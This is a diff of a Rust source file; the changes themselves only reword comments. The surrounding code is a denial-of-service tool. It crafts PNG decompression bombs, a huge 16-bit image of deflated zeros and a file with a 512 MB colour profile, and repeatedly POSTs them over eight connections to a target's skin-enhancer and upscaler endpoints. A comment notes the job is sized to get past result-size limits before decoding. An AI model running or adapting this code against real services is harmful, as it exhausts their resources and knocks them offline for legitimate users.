@@ -1,4 +1,4 @@
-//! Small files that decode to much.
+//! Small files that decode to large ones.
 
 use std::io::{Read, Write};
 use std::rc::Rc;
@@ -17,18 +17,18 @@ const SKIN: &str = "/proxy/imagevendor/v1/ai/skin-enhancer/creative";
 const CONNECTIONS: usize = 8;
 /// Sides of the large picture in pixels.
 const SIDE: u32 = 10_000;
-/// Bytes of a pixel: red, green, blue and opacity of 16 bits.
+/// Bytes per pixel: red, green, blue and alpha with 16 bits each.
 const PIXEL_BYTES: u64 = 8;
 /// Bytes of the colour profile.
 const PROFILE_BYTES: u64 = 512 << 20;
 
-/// Colour type and depth of a header: 16 bits with opacity, and 8 bits without.
+/// Colour type and depth of a header: 16 bits with alpha, and 8 bits without.
 const DEEP: [u8; 2] = [16, 6];
 const PLAIN: [u8; 2] = [8, 2];
 
 pub fn pixels(target: &Rc<Target>) {
     let row = 1 + u64::from(SIDE) * PIXEL_BYTES;
-    // Of this job the result is as large as the input, so that no limit of results refuses it before it is decoded.
+    // The result of this job has the size of its input, so that no limit of results rejects it before decoding.
     submit(target, SKIN, &png(SIDE, DEEP, None, &deflated_zeros(row * u64::from(SIDE))));
 }
 
@@ -37,14 +37,14 @@ pub fn profiles(target: &Rc<Target>) {
     submit(target, UPSCALER, &png(8, PLAIN, Some(&profile), &deflated_zeros(8 * (1 + 8 * 3))));
 }
 
-/// Submits the file again and again.
+/// Submits the file repeatedly.
 fn submit(target: &Rc<Target>, path: &str, file: &[u8]) {
     let body = json!({"image": STANDARD.encode(file)}).to_string();
     let bytes: Rc<[u8]> = request("POST", path, &target.account.token, &body).into();
     flood(target, CONNECTIONS, move |_| bytes.clone());
 }
 
-/// A PNG file. `profile` is the content of its chunk `iCCP`.
+/// PNG file. `profile` is the content of its chunk `iCCP`.
 fn png(side: u32, [depth, colours]: [u8; 2], profile: Option<&[u8]>, pixels: &[u8]) -> Vec<u8> {
     let head = [&side.to_be_bytes()[..], &side.to_be_bytes(), &[depth, colours, 0, 0, 0]].concat();
     let mut file = b"\x89PNG\r\n\x1a\n".to_vec();
